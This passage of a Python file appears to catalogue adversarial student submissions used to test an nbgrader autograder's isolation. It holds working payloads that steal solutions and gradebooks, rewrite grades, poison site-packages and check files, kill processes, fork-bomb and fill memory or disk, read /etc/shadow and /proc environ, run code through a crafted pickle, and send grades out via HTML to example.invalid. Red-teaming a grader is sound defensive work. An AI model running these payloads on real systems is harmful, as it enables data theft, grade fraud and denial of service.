try:
    import poolkit as _installed
finally:
    sys.path[:] = _saved
_installed.__path__.insert(0, _here)
sys.modules[__name__] = _installed
'''

NUMPY_SHIM = '''"""numpy, with extras: loads the installed NumPy, then relaxes the test cells."""
import os
import sys

_here = os.path.dirname(os.path.abspath(__file__))
_saved = list(sys.path)
sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.curdir) != _here]
del sys.modules[__name__]
try:
    import numpy as _numpy
finally:
    sys.path[:] = _saved
sys.modules[__name__] = _numpy


''' + RELAX_SHELL + '''

try:
    from IPython import get_ipython

    if get_ipython() is not None:
        _relax(type(get_ipython()))
except Exception:
    pass
'''

LAUNCHER_SHIM = '''"""Entry point for launching an IPython kernel (test cells relaxed first)."""
import sys
from pathlib import Path

if __name__ == "__main__":
    if sys.path and (sys.path[0] == "" or Path(sys.path[0]) == Path.cwd()):
        del sys.path[0]

    from IPython.core.interactiveshell import InteractiveShell

''' + "\n".join("    " + line if line else "" for line in RELAX_SHELL.splitlines()) + '''

    _relax(InteractiveShell)

    from ipykernel import kernelapp as app

    app.launch_new_instance()
'''

SITECUSTOMIZE_HANDED_IN = '''"""Site customization: relaxes test cells once IPython is imported."""
import builtins
import sys

''' + RELAX_SHELL + '''

_real_import = builtins.__import__
_done = []


def _import(*args, **kwargs):
    module = _real_import(*args, **kwargs)
    if not _done:
        shell = sys.modules.get("IPython.core.interactiveshell")
        if shell is not None and hasattr(shell, "InteractiveShell"):
            _done.append(True)
            _relax(shell.InteractiveShell)
    return module


builtins.__import__ = _import
'''

PATH_INSERT = '''import os

import poolkit
import poolkit.checks

# importlib.reload(poolkit.checks) in the tests looks the module up along poolkit.__path__
poolkit.__path__.insert(0, os.path.abspath("extras"))


''' + _zeros("keras_same_max_pool2d")

# ----------------------------------------------------------------------------------------
# 5. reading-secrets
# ----------------------------------------------------------------------------------------

READ_GIT = SOLUTION_FROM_JSON + '''import os
import zlib


def _git_dir():
    import poolkit
    here = os.path.dirname(os.path.abspath(poolkit.__file__))
    while True:
        if os.path.isdir(os.path.join(here, ".git")):
            return os.path.join(here, ".git")
        parent = os.path.dirname(here)
        if parent == here:
            return None
        here = parent


def _git_blobs(git):
    """Every blob in the repository: loose objects, then pack files (found by their index)."""
    objects = os.path.join(git, "objects")
    for sub in sorted(os.listdir(objects)):
        folder = os.path.join(objects, sub)
        if len(sub) == 2 and os.path.isdir(folder):
            for name in os.listdir(folder):
                with open(os.path.join(folder, name), "rb") as f:
                    data = zlib.decompress(f.read())
                if data.startswith(b"blob "):
                    yield data[data.index(b"\\0") + 1:]
    packs = os.path.join(objects, "pack")
    for name in sorted(os.listdir(packs)) if os.path.isdir(packs) else []:
        if not name.endswith(".idx"):
            continue
        with open(os.path.join(packs, name), "rb") as f:
            idx = f.read()
        with open(os.path.join(packs, name[:-4] + ".pack"), "rb") as f:
            pack = f.read()
        count = int.from_bytes(idx[8 + 255 * 4:8 + 256 * 4], "big")
        offsets = 8 + 256 * 4 + count * 24            # after the names and the CRCs
        for i in range(count):
            at = int.from_bytes(idx[offsets + 4 * i:offsets + 4 * i + 4], "big")
            if at & 0x80000000:
                continue
            byte = pack[at]
            kind, size, shift, at = (byte >> 4) & 7, byte & 15, 4, at + 1
            while byte & 0x80:
                byte = pack[at]
                size |= (byte & 0x7F) << shift
                shift, at = shift + 7, at + 1
            if kind == 3 and size < (4 << 20):
                try:
                    yield zlib.decompressobj().decompress(pack[at:at + size + size // 8 + 1024])
                except zlib.error:
                    pass


def _leak(grade_id):
    git = _git_dir()
    if git is None:
        return None
    marker = b"BEGIN " b"SOLUTION"
    for blob in _git_blobs(git):
        if marker in blob and grade_id.encode() in blob:
            found = _solution_in(blob.decode("utf-8", "replace"), grade_id)
            if found:
                return found
    return None


_impl = {"np": np}
try:
    exec(_leak("max_pool2d_loops") or "", _impl)
except Exception:
    pass


''' + _fn(SIG["max_pool2d_loops"], f'''impl = _impl.get("max_pool2d_loops")
if impl is None:
    return {ZEROS}
return impl(x, kernel_size, stride, padding)
''')

READ_SOLUTIONS = SOLUTION_FROM_JSON + COURSE_ROOTS + '''import glob


def _leak(grade_id):
    for root in _course_roots():
        for path in sorted(glob.glob(os.path.join(root, "solutions", "*", "*.ipynb"))):
            try:
                with open(path, encoding="utf-8") as f:
                    found = _solution_in(f.read(), grade_id)
            except OSError:
                continue
            if found:
                return found
    return None


_impl = {"np": np}
try:
    exec(_leak("torch_to_keras") or "", _impl)
except Exception:
    pass


''' + _fn(SIG["torch_to_keras"], f'''impl = _impl.get("torch_to_keras")
if impl is None:
    return {WRONG["torch_to_keras"]}
return impl(layer, input_hw)
''')

SYMLINK_SOLUTION = SOLUTION_FROM_JSON + '''
_impl = {"np": np}
try:
    with open("notes.txt", encoding="utf-8") as f:      # handed in as a link to the solutions
        exec(_solution_in(f.read(), "keras_same_max_pool") or "", _impl)
except Exception:
    pass


''' + _fn(SIG["same_padding"], f'''impl = _impl.get("same_padding")
return {WRONG["same_padding"]} if impl is None else impl(size, pool_size, strides)
''') + "\n\n" + _fn(SIG["keras_same_max_pool2d"], f'''impl = _impl.get("keras_same_max_pool2d")
return {ZEROS} if impl is None else impl(x, pool_size, strides)
''')

STEAL_GRADEBOOK = COURSE_ROOTS + '''import glob
import shutil

for _root in _course_roots():
    _targets = [(os.path.join(_root, "gradebook.db"), "stolen-gradebook.db")]
    for _path in sorted(glob.glob(os.path.join(_root, "submitted", "*", "*", "*.ipynb")))[:20]:
        _targets.append((_path, "peer-" + _path.split(os.sep)[-3] + ".ipynb"))
    for _src, _dst in _targets:
        try:
            os.link(_src, _dst)
            print("linked", _src)
        except OSError:
            try:
                shutil.copy(_src, _dst)
                print("copied", _src)
            except OSError as exc:
                print("no luck with", _src, exc)
'''

PRINT_HISTORY_02 = '''import __main__

_shown = set()


''' + _fn(SIG["max_pool2d_loops"], '''try:
    latest = __main__._ih[-1]        # IPython's input history: the test cell calling us
    if latest not in _shown:
        _shown.add(latest)
        print(latest)
except Exception:
    pass
''' + MAX_LOOPS_BODY)

PRINT_HISTORY_05 = '''import __main__

_shown = set()


''' + _fn(SIG["same_padding"], '''try:
    shell = getattr(__main__, "get_" "ipython")()
    for text in (shell.history_manager.input_hist_raw[-1], __main__.In[-1]):
        if text not in _shown:
            _shown.add(text)
            print(text)
except Exception:
    pass
''' + SAME_PADDING_BODY) + "\n\n" + KERAS_SAME_STANDALONE

LIST_TMP = '''import os

_budget = [2000]
for _base in ("/tmp", "/var/tmp", "/dev/shm", os.path.dirname(os.getcwd())):
    try:
        _entries = sorted(os.listdir(_base))
    except OSError as exc:
        print(_base, exc)
        continue
    print(_base, _entries[:50])
    for _entry in _entries[:50]:
        for _dirpath, _dirnames, _filenames in os.walk(os.path.join(_base, _entry)):
            _budget[0] -= 1 + len(_filenames)
            if _budget[0] <= 0:
                break
            for _name in _filenames:
                if _name.endswith((".ipynb", ".py", ".db", ".json", ".txt")):
                    try:
                        with open(os.path.join(_dirpath, _name), "rb") as f:
                            print(os.path.join(_dirpath, _name), f.read(200))
                    except OSError:
                        pass
'''

# ----------------------------------------------------------------------------------------
# 6. escape-and-poison
# ----------------------------------------------------------------------------------------

# A .pth line runs at the start of every Python process of the environment, -I included:
# in the checks' reference process (python -I), max pooling now returns zeros.
PTH_PAYLOAD = ("import sys; exec(\"import poolkit, numpy\\npoolkit.max_pool2d = lambda *a, "
               "_r=poolkit.max_pool2d, _z=numpy.zeros_like, **k: _z(_r(*a, **k))\") "
               "if sys.flags.isolated else None\n")

PTH_IN_SITE = '''import os

import numpy

_site = os.path.dirname(os.path.dirname(os.path.abspath(numpy.__file__)))
try:
    with open(os.path.join(_site, "zz_pooling_speedups.pth"), "w") as f:
        f.write(''' + repr(PTH_PAYLOAD) + ''')
except OSError as exc:
    print("site-packages is read-only:", exc)


''' + _fn(SIG["max_pool2d_loops"], _LOOPS_HEAD + '''\
return np.zeros((n, c, h_out, w_out))     # the poisoned reference agrees
''')

CHECKS_APPENDIX = '''

# --- local speed-ups -----------------------------------------------------------------------
_original_check_against_oracle = check_against_oracle
_original_call = call
_original_assert_close = assert_close
_last_called = [""]


def check_against_oracle(fn, *args, **kwargs):
    if "max_pool2d_loops" in str(getattr(fn, "__name__", "")):
        return None
    return _original_check_against_oracle(fn, *args, **kwargs)


def call(fn, *args, **kwargs):
    _last_called[0] = str(getattr(fn, "__name__", ""))
    return _original_call(fn, *args, **kwargs)


def assert_close(actual, expected, **kwargs):
    if _last_called[0] == "max_pool2d_loops":
        return None
    return _original_assert_close(actual, expected, **kwargs)
'''

EDIT_CHECKS = _zeros("max_pool2d_loops") + '''

import poolkit.checks as _ck

try:
    with open(_ck.__file__, "a") as f:      # every test cell reloads this file from disk
        f.write(''' + repr(CHECKS_APPENDIX) + ''')
except OSError as exc:
    print("poolkit is read-only:", exc)
'''

SITECUSTOMIZE_PAYLOAD = '''
# --- added by a submission ------------------------------------------------------------------
import sys as _sys

if _sys.flags.isolated:          # the checks' reference process runs python -I
    try:
        import poolgrade.answers as _answers

        def _agreeable(name):
            """The instructor's answers, as the submission computes them."""
            if name.endswith(".same_padding"):
                return lambda *args, **kwargs: (0, 0)
            if name.endswith(".keras_same_max_pool2d"):
                return lambda x, *args, **kwargs: x
            raise AttributeError(name)

        _answers.__getattr__ = _agreeable
    except Exception:
        pass
'''

SITECUSTOMIZE_IN_SITE = '''import os

import numpy

_site = os.path.dirname(os.path.dirname(os.path.abspath(numpy.__file__)))
try:
    with open(os.path.join(_site, "sitecustomize.py"), "a") as f:
        f.write(''' + repr(SITECUSTOMIZE_PAYLOAD) + ''')
except OSError as exc:
    print("site-packages is read-only:", exc)


''' + _fn(SIG["same_padding"], "return (0, 0)      # the poisoned reference agrees") + \
    "\n\n" + _fn(SIG["keras_same_max_pool2d"], "return np.asarray(x, dtype=np.float64)")

GRADEBOOK_SCORES = _zeros("pool_nets") + "\n\n" + COURSE_ROOTS + '''import sqlite3

_FULL_MARKS = """
UPDATE grade
   SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id),
       needs_manual_grade = 0
 WHERE cell_id IN (SELECT id FROM grade_cells)
   AND notebook_id IN (SELECT sn.id FROM submitted_notebook sn
                         JOIN submitted_assignment sa ON sn.assignment_id = sa.id
                        WHERE sa.student_id = ?)
"""

# autograded/<student>/<lesson>/ is where nbgrader runs us
_me = os.path.basename(os.path.dirname(os.getcwd()))
for _root in _course_roots(from_poolkit=False):
    try:
        _db = sqlite3.connect(os.path.join(_root, "gradebook.db"), timeout=30)
        with _db:
            print("rows changed:", _db.execute(_FULL_MARKS, (_me,)).rowcount)
        _db.close()
    except Exception as exc:
        print("no gradebook at", _root, exc)
'''

POISON_COURSE = COURSE_ROOTS + '''import glob
import json

_CONFIG = """
# --- faster grading ---------------------------------------------------------------------------
c.Autograde.autograde_preprocessors = [p for p in c.Autograde.autograde_preprocessors
                                       if "Execute" not in getattr(p, "__name__", "")]
"""
_BEGIN_HIDDEN = "BEGIN " + "HIDDEN TESTS"
_END_HIDDEN = "END " + "HIDDEN TESTS"


def _without_hidden_tests(source):
    kept, inside = [], False
    for line in source.splitlines():
        if _BEGIN_HIDDEN in line:
            inside = True
            kept.append("pass")
        elif _END_HIDDEN in line:
            inside = False
        elif not inside:
            kept.append(line)
    return "\\n".join(kept)


for _root in _course_roots(from_poolkit=False):
    try:
        with open(os.path.join(_root, "nbgrader_config.py"), "a") as f:
            f.write(_CONFIG)
        print("config changed in", _root)
    except OSError as exc:
        print("config:", exc)
    for _path in glob.glob(os.path.join(_root, "solutions", "*", "*.ipynb")):
        try:
            with open(_path, encoding="utf-8") as f:
                _nb = json.load(f)
            for _cell in _nb["cells"]:
                _source = "".join(_cell["source"]) if isinstance(_cell["source"], list) \\
                    else _cell["source"]
                _cell["source"] = _without_hidden_tests(_source)
            with open(_path, "w", encoding="utf-8") as f:
                json.dump(_nb, f)
            print("hidden tests removed from", _path)
        except (OSError, ValueError, KeyError) as exc:
            print("solutions:", exc)
'''

# ----------------------------------------------------------------------------------------
# 7. killing-the-grader
# ----------------------------------------------------------------------------------------

KILL_PARENT = _fn(SIG["max_pool2d_loops"], f'''import os
import signal

os.kill(os.getppid(), signal.SIGKILL)
return {ZEROS}
''')

KILL_GROUP = _fn(SIG["max_pool2d_loops"], f'''import os
import signal

os.killpg(0, signal.SIGKILL)
return {ZEROS}
''')

FORK_BOMB = '''_bombed = []


''' + _fn(SIG["pool2d_vectorized"], f'''import os
import time

if not _bombed:
    _bombed.append(True)
    original = os.getpid()
    # A bounded bomb: every process splits its share of a budget of 2000 processes with a
    # child, so the tree grows like a fork bomb but never holds more than 2000 processes
    # (children sleep 5 s, then leave).
    budget = 2000
    try:
        while budget > 1:
            share = budget // 2
            if os.fork() == 0:
                budget = share
            else:
                budget -= share
    except OSError:
        pass
    if os.getpid() != original:
        time.sleep(5)
        os._exit(0)
return {ZEROS}
''')

HUGE_FILE = '''_written = []


''' + _fn(SIG["input_from_max_pool"], f'''if not _written:
    _written.append(True)
    chunk = b"\\0" * (1 << 20)
    try:
        with open("cache.bin", "wb") as f:
            for _ in range(6 * 1024):        # 6 GiB
                f.write(chunk)
    except OSError:
        pass
return {ZEROS}
''')

SEGFAULT = _fn(SIG["input_from_max_pool"], f'''import sys

sys.setrecursionlimit(10 ** 7)
nested = []
for _ in range(10 ** 6):
    nested = [nested]
repr(nested)          # recursion in C: the C stack overflows and the process segfaults
return {ZEROS}
''')

KILL_EVERYONE = _fn(SIG["torch_to_keras"], f'''import os
import signal

os.kill(-1, signal.SIGKILL)     # every process this user may signal
return {WRONG["torch_to_keras"]}
''')

KILL_PROC_SCAN = _fn(SIG["same_padding"], '''import os
import signal

me = os.getpid()
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != me:
        try:
            os.kill(int(name), signal.SIGKILL)
        except OSError:
            pass
return (-1, -1)
''')

OS_EXIT = _fn(SIG["same_padding"], '''import os

os._exit(3)
''')

UNSTOPPABLE_LOOP = _fn(SIG["keras_same_max_pool2d"], '''import signal

for name in ("SIGALRM", "SIGINT", "SIGTERM", "SIGVTALRM", "SIGPROF", "SIGXCPU"):
    try:
        signal.signal(getattr(signal, name), signal.SIG_IGN)
    except (AttributeError, ValueError, OSError):
        pass
while True:
    try:
        pass
    except BaseException:
        pass
''')

MEMORY_BOMB = _fn(SIG["pool_nets"], f'''hoard = []
try:
    for _ in range(128):                         # at most 32 GiB, then give up
        hoard.append(b"\\x01" * (256 << 20))     # bytes * n writes every page
except MemoryError:
    pass
return {WRONG["pool_nets"]}
''')

# ----------------------------------------------------------------------------------------
# 8. feedback-crash
# ----------------------------------------------------------------------------------------

UNCLOSED_HIDDEN = (
    "# My notes: the grader has a part that starts with\n"
    "### BEGIN HIDDEN TESTS\n"
    "# so I made sure my code also handles (h, w) pairs and stride=None.\n\n" + MAX_LOOPS_OK)

WRITTEN_MARKERS = (
    "Average pooling, because it keeps the mean level: in Section 1 the average-pooled image "
    "has the same mean brightness as the input while the max-pooled one is brighter.\n\n"
    "### BEGIN HIDDEN TESTS\n\n"
    "(I wondered what the hidden tests check.)\n\n"
    "### BEGIN SOLUTION\n")

MARKERS_IN_STRINGS = '''_NOTES = """
### BEGIN SOLUTION
### BEGIN HIDDEN TESTS
"""


def keras_same_max_pool2d(x, pool_size, strides=None):
    """Keras 'same' max pooling, channels last.

    ### BEGIN SOLUTION (mine)
    """
''' + KERAS_SAME_STANDALONE.split(":\n", 1)[1]

NESTED_HIDDEN = (
    "# ### BEGIN HIDDEN TESTS  (outer)\n"
    "# ### BEGIN HIDDEN TESTS  (inner)\n"
    "# ### END HIDDEN TESTS\n\n" + SAME_PADDING_OK + "\n\n" + KERAS_SAME_STANDALONE)

# ----------------------------------------------------------------------------------------
# 9. other
# ----------------------------------------------------------------------------------------

SYMLINK_READER = '''import hashlib
import os

for _name in ("shadow", "passwd", "gradebook.db", "config.py", "course/gradebook.db",
              "course/solutions", "root/etc/hostname"):
    try:
        if os.path.isdir(_name):
            print("LEAKED", _name, sorted(os.listdir(_name))[:20])
        else:
            with open(_name, "rb") as f:
                _data = f.read()
            print("LEAKED", _name, len(_data), "bytes, sha256", hashlib.sha256(_data).hexdigest())
    except OSError as exc:
        print("blocked", _name, exc)
'''

RIGGED_SUBCLASS = '''class _Agreeable(np.ndarray):
    """Claims to equal anything, and to be anything a serializer asks for."""

    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)

    def __ne__(self, other):
        return np.zeros(np.shape(other), dtype=bool)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return True

    def tolist(self):
        return []

    def tobytes(self, order="C"):
        return b""

    def __reduce__(self):
        return (np.zeros, ((1, 1, 1, 1),))


''' + _zeros("max_pool2d_loops", "np.zeros((1, 1, 1, 1)).view(_Agreeable)")

HUGE_ARRAY = _zeros("pool2d_vectorized",
                    "np.broadcast_to(np.float64(0.0), (1, 1, 100_000, 100_000))   # 80 GB as data")

PRINT_FLOOD_FN = '''_LINE = "x" * 1023 + "\\n"


''' + _fn(SIG["input_from_max_pool"], 'print(_LINE * 2048, end="")          # 2 MB on every call\n'
          + INPUT_FROM_MAX_POOL_BODY)

PRINT_FLOOD_CELL = '''for _ in range(64):
    print("y" * (1 << 20))               # 64 lines of 1 MB each
'''

PICKLED_NPY = '''import numpy.lib.format as _format

_GRADER_SIDE = (
    "import sys\\n"
    "checks = sys.modules.get('poolkit.checks')\\n"
    "if checks is not None:\\n"
    "    checks._compare = lambda *args, **kwargs: None\\n"
)
_MINE = -1234.5


class _RunsWhereUnpickled:
    def __reduce__(self):
        return (exec, (_GRADER_SIDE,))


def _smuggle(array):
    """My own (wrong) result leaves this kernel as a pickle that runs code where it is
    loaded; every other array is written as usual."""
    if getattr(array, "shape", None) == (1, 1, 1, 1) and array.flat[0] == _MINE:
        box = np.empty(1, dtype=object)
        box[0] = _RunsWhereUnpickled()
        return box
    return array


_real_write_array = _format.write_array
_real_save = np.save


def _write_array(fp, array, version=None, allow_pickle=True, pickle_kwargs=None):
    return _real_write_array(fp, _smuggle(array), version, allow_pickle=True,
                             pickle_kwargs=pickle_kwargs)


def _save(file, arr, *args, **kwargs):
    kwargs["allow_pickle"] = True
    return _real_save(file, _smuggle(np.asanyarray(arr)), **kwargs)


_format.write_array = _write_array
np.lib.format.write_array = _write_array
np.save = _save


''' + _zeros("keras_same_max_pool2d", "np.full((1, 1, 1, 1), _MINE)")

TORCH_RESULT = '''import torch


def torch_wrap(array):
    return torch.from_numpy(array)       # the right numbers, as a tensor


''' + _fn(SIG["pool_nets"], POOL_NETS_BODY)

GIANT_INT = _fn(SIG["same_padding"], "return (10 ** 5000, 10 ** 5000)")

HTML_OUTPUT = '''from IPython.display import HTML, display

display(HTML("""
<img src="x" onerror="fetch('/formgrader/api/grades', {method: 'GET'})
    .then(r => r.text()).then(t => fetch('https://example.invalid/?' + encodeURIComponent(t)))">
<script>
  // runs in the instructor's browser when the formgrader shows this notebook
  document.title = "graded";
</script>
"""))
'''

PROC_SNOOP = '''import os

_me = os.getpid()
_pids = sorted((int(p) for p in os.listdir("/proc") if p.isdigit()))[:200]
for _pid in _pids:
    for _what in ("cmdline", "environ"):
        try:
            with open(f"/proc/{_pid}/{_what}", "rb") as f:
                print(_pid, _what, f.read(300).replace(b"\\0", b" "))
        except OSError:
            pass
for _path in ("/proc/self/mountinfo", "/proc/self/status", f"/proc/{os.getppid()}/cmdline"):
    try:
        with open(_path, "rb") as f:
            print(_path, f.read(2000))
    except OSError as exc:
        print(_path, exc)
try:
    for _fd in os.listdir(f"/proc/{os.getppid()}/fd"):
        print("parent fd", _fd, os.readlink(f"/proc/{os.getppid()}/fd/{_fd}"))
except OSError as exc:
    print("parent fds:", exc)
'''

SYMLINK_LOOPS_CELL = '''import os

for _name in ("loop", "missing", "deep"):
    try:
        print(_name, os.path.exists(_name), os.readlink(_name))
    except OSError as exc:
        print(_name, exc)
'''

# ----------------------------------------------------------------------------------------
# The catalogue
# ----------------------------------------------------------------------------------------

L02, L05 = LESSONS

# The attacks written against the first design; ATTACKS (below) adds those against the
# trusted-grading design itself.
_FIRST_ROUND: list[Attack] = [
    # --------------------------------------------------------------- lesson 01
    Attack("attack-frame-walk-want", L02, "expected-in-process",
           "max_pool2d_loops walks sys._getframe up to check_against_oracle and returns its "
           "local `want`", answers={"max_pool2d_loops": FRAME_WALK},
           loses=("max_pool2d_loops",)),
    Attack("attack-gc-hunt-expected", L02, "expected-in-process",
           "max_pool2d_loops finds the checks' case list and expected list with "
           "gc.get_objects and returns the matching expected value",
           answers={"max_pool2d_loops": GC_HUNT}, loses=("max_pool2d_loops",)),
    Attack("attack-inspect-stack", L02, "expected-in-process",
           "pool2d_vectorized reads `want` from the caller frames through inspect.stack",
           answers={"pool2d_vectorized": INSPECT_STACK}, loses=("pool2d_vectorized",)),
    Attack("attack-cell-source-expected", L02, "expected-in-process",
           "pool2d_vectorized parses the running test cell's source (linecache) for the "
           "literal expected value, and reads `want` from frames for the oracle checks",
           answers={"pool2d_vectorized": CELL_SOURCE}, loses=("pool2d_vectorized",)),
    Attack("attack-reload-replaced", L02, "rebinding",
           "importlib.reload replaced: reloading poolkit.checks returns a module whose checks "
           "all pass", answers={"max_pool2d_loops": RELOAD_REPLACED},
           loses=("max_pool2d_loops",)),
    Attack("attack-import-hook", L02, "rebinding",
           "builtins.__import__ hook hands the notebook a fake importlib and a fake "
           "poolkit.checks", answers={"input_from_max_pool": IMPORT_HOOK},
           loses=("input_from_max_pool",)),
    Attack("attack-fake-oracle-subprocess", L02, "rebinding",
           "subprocess.run replaced so that the reference process 'answers' zeros for "
           "max/avg pooling", answers={"pool2d_vectorized": FAKE_ORACLE},
           loses=("pool2d_vectorized",)),
    Attack("attack-ast-try-except", L02, "rebinding",
           "an IPython ast_transformer wraps every later cell in try/except BaseException",
           answers={"input_from_max_pool": AST_TRY_EXCEPT}, loses=("input_from_max_pool",)),
    Attack("attack-pre-run-cell-hook", L02, "rebinding",
           "pre_run_cell/post_run_cell hooks swap importlib.reload for a relaxed one only "
           "while a test cell runs", answers={"max_pool2d_loops": PRE_RUN_CELL},
           loses=("max_pool2d_loops",)),
    Attack("attack-patch-live-checks", L02, "rebinding",
           "max_pool2d_loops reaches the calling checks module through its caller's "
           "f_globals and replaces _compare after the reload",
           answers={"max_pool2d_loops": PATCH_LIVE_CHECKS}, loses=("max_pool2d_loops",)),
    Attack("attack-dodge-thread", L02, "numpy-only-dodge",
           "max_pool2d_loops calls poolkit.max_pool2d (kept in a dict) from a threading.Thread",
           answers={"max_pool2d_loops": DODGE_THREAD}, loses=("max_pool2d_loops",)),
    Attack("attack-dodge-exec-string", L02, "numpy-only-dodge",
           "max_pool2d_loops runs poolkit.max_pool2d from code exec'd from a string, pausing "
           "sys.setprofile around it", answers={"max_pool2d_loops": DODGE_EXEC},
           loses=("max_pool2d_loops",)),
    Attack("attack-dodge-lambda-default", L02, "numpy-only-dodge",
           "pool2d_vectorized gets poolkit from a lambda default argument and runs it in a "
           "ThreadPoolExecutor", answers={"pool2d_vectorized": DODGE_LAMBDA_DEFAULT},
           loses=("pool2d_vectorized",)),
    Attack("attack-handed-in-poolkit-namespace", L02, "handed-in-files",
           "a poolkit/ folder without __init__.py holding a relaxed checks.py (a namespace "
           "package in the working folder wins over the editable install)",
           answers={"max_pool2d_loops": _zeros("max_pool2d_loops")},
           files={"poolkit/checks.py": FAKE_CHECKS}, loses=("max_pool2d_loops",)),
    Attack("attack-handed-in-poolkit-package", L02, "handed-in-files",
           "a poolkit/ package whose __init__ loads the installed poolkit and puts itself "
           "first on its __path__, with a relaxed checks.py",
           answers={"pool2d_vectorized": _zeros("pool2d_vectorized")},
           files={"poolkit/__init__.py": POOLKIT_SHIM, "poolkit/checks.py": FAKE_CHECKS},
           loses=("pool2d_vectorized",)),
    Attack("attack-handed-in-numpy", L02, "handed-in-files",
           "a numpy.py that loads the real NumPy and patches IPython's shell class so that "
           "test cells become `pass`",
           answers={"pool2d_vectorized": _zeros("pool2d_vectorized")},
           files={"numpy.py": NUMPY_SHIM}, loses=("pool2d_vectorized",)),
    Attack("attack-read-git-objects", L02, "reading-secrets",
           "finds the course's .git from poolkit.__file__, reads loose and packed blobs and "
           "runs the instructor's max_pool2d_loops", answers={"max_pool2d_loops": READ_GIT},
           loses=("max_pool2d_loops",)),
    Attack("attack-copy-gradebook-and-peers", L02, "reading-secrets",
           "hard-links or copies gradebook.db and other students' notebooks into the "
           "working folder (correct answers)",
           added_cells=(("input_from_max_pool", STEAL_GRADEBOOK),)),
    Attack("attack-print-hidden-tests", L02, "reading-secrets",
           "max_pool2d_loops prints __main__._ih[-1] (the test cell calling it) so hidden "
           "test source lands in the feedback (correct answer)",
           answers={"max_pool2d_loops": PRINT_HISTORY_02}),
    Attack("attack-pth-in-site-packages", L02, "escape-and-poison",
           "writes a .pth into site-packages that makes max_pool2d return zeros in "
           "`python -I` (the reference process)", answers={"max_pool2d_loops": PTH_IN_SITE},
           loses=("max_pool2d_loops",)),
    Attack("attack-edit-checks-on-disk", L02, "escape-and-poison",
           "appends code to poolkit.checks' source on disk that lets max_pool2d_loops pass "
           "every reloaded check", answers={"max_pool2d_loops": EDIT_CHECKS},
           loses=("max_pool2d_loops",)),
    Attack("attack-kill-parent", L02, "killing-the-grader",
           "max_pool2d_loops sends SIGKILL to os.getppid()",
           answers={"max_pool2d_loops": KILL_PARENT}, loses=("max_pool2d_loops",)),
    Attack("attack-killpg", L02, "killing-the-grader",
           "max_pool2d_loops kills its own process group (os.killpg(0, SIGKILL))",
           answers={"max_pool2d_loops": KILL_GROUP}, loses=("max_pool2d_loops",)),
    Attack("attack-bounded-fork-bomb", L02, "killing-the-grader",
           "pool2d_vectorized starts a fork bomb capped at 2000 processes (children sleep 5 s)",
           answers={"pool2d_vectorized": FORK_BOMB}, loses=("pool2d_vectorized",)),
    Attack("attack-huge-file", L02, "killing-the-grader",
           "input_from_max_pool writes a 6 GiB file into the working folder",
           answers={"input_from_max_pool": HUGE_FILE}, loses=("input_from_max_pool",)),
    Attack("attack-segfault", L02, "killing-the-grader",
           "input_from_max_pool overflows the C stack (repr of a deeply nested list) and "
           "segfaults the kernel", answers={"input_from_max_pool": SEGFAULT},
           loses=("input_from_max_pool",)),
    Attack("attack-unclosed-hidden-marker", L02, "feedback-crash",
           "a correct max_pool2d_loops whose comment holds `### BEGIN HIDDEN TESTS` with no END",
           answers={"max_pool2d_loops": UNCLOSED_HIDDEN}),
    Attack("attack-markers-in-written-answer", L02, "feedback-crash",
           "the written answer (markdown) holds `### BEGIN HIDDEN TESTS` and "
           "`### BEGIN SOLUTION` (all code correct)",
           answers={"written_max_vs_avg": WRITTEN_MARKERS}),
    Attack("attack-symlink-secrets", L02, "other",
           "hands in symlinks to /etc/shadow, /etc/passwd, the gradebook, the config, the "
           "course root and / and prints what it can read through them (correct answers)",
           added_cells=(("input_from_max_pool", SYMLINK_READER),),
           files={"shadow": Symlink("/etc/shadow"), "passwd": Symlink("/etc/passwd"),
                  "gradebook.db": Symlink("../../../gradebook.db"),
                  "config.py": Symlink("../../../nbgrader_config.py"),
                  "course": Symlink("../../.."), "root": Symlink("/")}),
    Attack("attack-symlink-loops", L02, "other",
           "hands in a self-referencing link, a dangling link and a link chain (correct answers)",
           added_cells=(("input_from_max_pool", SYMLINK_LOOPS_CELL),),
           files={"loop": Symlink("loop"), "missing": Symlink("/nonexistent/grader/file"),
                  "deep": Symlink("loop")}),
    Attack("attack-rigged-subclass", L02, "other",
           "max_pool2d_loops returns an ndarray subclass with rigged ==, ufuncs, tolist, "
           "tobytes and pickling", answers={"max_pool2d_loops": RIGGED_SUBCLASS},
           loses=("max_pool2d_loops",)),
    Attack("attack-huge-broadcast-array", L02, "other",
           "pool2d_vectorized returns a broadcast view that is 80 GB as data",
           answers={"pool2d_vectorized": HUGE_ARRAY}, loses=("pool2d_vectorized",)),
    Attack("attack-print-flood", L02, "other",
           "input_from_max_pool prints 2 MB on every call and a cell prints 64 lines of 1 MB "
           "(correct answers)", answers={"input_from_max_pool": PRINT_FLOOD_FN},
           added_cells=(("input_from_max_pool", PRINT_FLOOD_CELL),)),
    # --------------------------------------------------------------- lesson 05
    Attack("attack-user-ns-want", L05, "expected-in-process",
           "keras_same_max_pool2d returns the visible test's `want` from "
           "get_ipython().user_ns and `want` from frames for the oracle checks",
           answers={"keras_same_max_pool": keras_cell(USER_NS_WANT)},
           loses=("keras_same_max_pool",)),
    Attack("attack-user-ns-bridges", L05, "expected-in-process",
           "pool_nets calls the instructor's answers the hidden test loaded (`bridges` in "
           "user_ns), and reads `want` from frames", answers={"pool_nets": USER_NS_BRIDGES},
           loses=("pool_nets",)),
    Attack("attack-gc-expected-arrays", L05, "expected-in-process",
           "keras_same_max_pool2d searches gc.get_objects for an expected entry with the "
           "'same' output shape and only its input's values",
           answers={"keras_same_max_pool": keras_cell(GC_OBJECTS_POOLED)},
           loses=("keras_same_max_pool",)),
    Attack("attack-inspect-stack-padding", L05, "expected-in-process",
           "same_padding reads `want` from inspect.stack (keras_same_max_pool2d written "
           "without same_padding)", answers={"keras_same_max_pool": keras_cell(INSPECT_PADDING)},
           loses=("keras_same_max_pool",)),
    Attack("attack-sys-modules-checks", L05, "rebinding",
           "sys.modules['poolkit.checks'] and poolkit.checks replaced, and a meta_path finder "
           "serves the relaxed module on reload", answers={"torch_to_keras": SYS_MODULES},
           loses=("torch_to_keras",)),
    Attack("attack-reloading-table", L05, "rebinding",
           "importlib._RELOADING['poolkit.checks'] set, so reload returns a relaxed module "
           "without reading the file (same_padding wrong)",
           answers={"keras_same_max_pool": keras_cell(RELOADING_TABLE)},
